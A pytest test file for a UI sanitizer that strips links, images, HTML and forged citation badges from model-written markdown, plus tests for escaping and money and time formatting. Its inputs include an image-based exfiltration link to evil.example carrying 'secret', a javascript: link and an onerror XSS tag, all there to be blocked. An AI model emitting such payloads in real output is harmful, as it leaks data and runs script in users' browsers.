from __future__ import annotations

import pytest

from rlm_app.types import Citation, Verdict
from rlm_app.ui import chips, marked, safe, words


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/a.png?q=secret)",
        "![x][1]\n\n[1]: http://evil.example/a.png",
        "[click](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "<http://evil.example>",
        "see http://evil.example/a and www.evil.example and a.b@evil.example",
        "`code` ![x](http://evil.example) \\`![y](http://evil.example)`",
        "| a | ![x](http://evil.example) |",
        ":material/home: :red[alarm] $x^2$",
    ],
)
def test_what_a_model_writes_can_neither_load_nor_link_nor_draw(text: str) -> None:
    out = safe.markdown(text)
    outside = "".join(out.replace("\\`", "").split("`")[::2])
    for active in ("http://", "www.", "@evil"):
        assert active not in outside
    for sign in "[]<$:":
        assert f"{sign}" not in outside.replace(f"\\{sign}", "")


def test_emphasis_lists_and_tables_stay_as_they_are() -> None:
    text = "**bold** and *soft*\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted"
    assert safe.markdown(text) == text


def test_fenced_code_is_cut_out_and_never_read_as_markdown() -> None:
    found = safe.parts("before\n```python\nprint('![x](http://evil)')\n```\nafter")
    assert [(part.text.strip(), part.is_code) for part in found] == [
        ("before", False),
        ("print('![x](http://evil)')", True),
        ("after", False),
    ]


def test_a_chip_stands_behind_its_quote_and_links_only_where_there_is_a_passage() -> None:
    answer = "It says “the rent is due”. And “the moon is full”."
    found = Citation("the rent is due", Verdict.FOUND, "a", "lease.pdf", 10, 25, "1")
    lost = Citation("the moon is full", Verdict.NOT_FOUND)
    text = chips.with_chips(answer, [found, lost])[0].text
    assert "due” [:green-badge[:material/check: 1]](#quote-1)." in text
    assert "full” :red-badge[:material/close: 2]." in text


def test_a_model_cannot_forge_a_chip() -> None:
    text = chips.with_chips("\ue0001\ue001 and :green-badge[:material/check: 9]", [])[0].text
    assert "\ue000" not in text
    assert ":green-badge" not in text.replace("\\:", "")


def test_document_text_is_escaped_around_its_marks() -> None:
    assert marked.html_of("<b>a & b</b>", [(3, 8)]) == "&lt;b&gt;<mark>a &amp; b</mark>&lt;/b&gt;"
    assert marked.merged([(5, 9), (0, 3), (2, 4), (8, 99), (7, 7)], 12) == [(0, 4), (5, 12)]


@pytest.mark.parametrize(
    ("amount", "shown"),
    [(None, "–"), (0, "$0.00"), (0.0021, "$0.0021"), (0.00002, "<$0.0001"), (0.034, "$0.034"), (1.5, "$1.50")],
)
def test_money_has_two_meaningful_digits(amount: float | None, shown: str) -> None:
    assert words.money(amount) == shown


@pytest.mark.parametrize(("seconds", "shown"), [(7.9, "0:07"), (750, "12:30"), (3723, "1:02:03")])
def test_elapsed_time_reads_like_a_clock(seconds: float, shown: str) -> None:
    assert words.clock(seconds) == shown


def test_times_are_said_from_where_the_reader_is() -> None:
    assert words.when(1000, now=1010) == "just now"
    assert words.when(1000, now=1000 + 600) == "10 min ago"
    assert words.when(0, "Pacific/Auckland", now=10**6) == "1 Jan 1970"
    assert words.moment(0, "Asia/Tokyo") == "1 Jan 1970, 09:00"
    assert words.moment(0, "No/Such") == "1 Jan 1970, 00:00"
